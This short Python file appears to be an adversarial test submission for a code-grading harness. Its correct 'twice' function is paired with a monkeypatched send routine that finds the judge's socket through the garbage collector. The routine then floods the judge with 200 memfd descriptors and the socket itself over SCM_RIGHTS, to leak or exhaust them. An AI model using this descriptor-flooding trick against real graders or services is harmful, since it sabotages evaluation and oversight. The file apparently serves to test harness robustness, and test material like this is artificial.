# Strategy: attaches descriptors to a right answer, as many as fit: a judge that takes them leaks them, or runs out.
# Surface: SCM_RIGHTS messages to the judge. One descriptor is the socket itself, which would keep it alive for ever.
import gc
import os
import socket

import torch
from harness.wire import frame

[JUDGE] = [found for found in gc.get_objects() if type(found) is socket.socket]


def send(sock, token, message, descriptors=()):
    many = [JUDGE.fileno(), *(os.memfd_create(f"gift {k}") for k in range(200))]
    print(f"attack: {len(many)} descriptors go to the judge", flush=True)
    socket.send_fds(sock, [frame.encode(token, message)], many)


frame.send = send


def twice(x, y):
    torch.mul(x, 2, out=y)
